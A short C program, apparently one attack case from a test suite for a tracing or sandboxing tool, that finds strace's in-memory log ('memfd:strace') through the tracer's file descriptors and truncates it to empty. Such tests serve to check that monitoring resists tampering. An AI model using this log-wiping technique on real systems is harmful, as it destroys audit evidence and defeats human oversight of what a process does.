/* Opens strace's log by its descriptor, and empties it. */
#include "attack.h"

static void empty(int fd, const char *name)
{
	if (strstr(name, "memfd:strace"))
		ignore(ftruncate(fd, 0));
}

int main(void)
{
	look_up();
	say_ready();
	each_descriptor(tracer, O_WRONLY, empty);
	return 0;
}
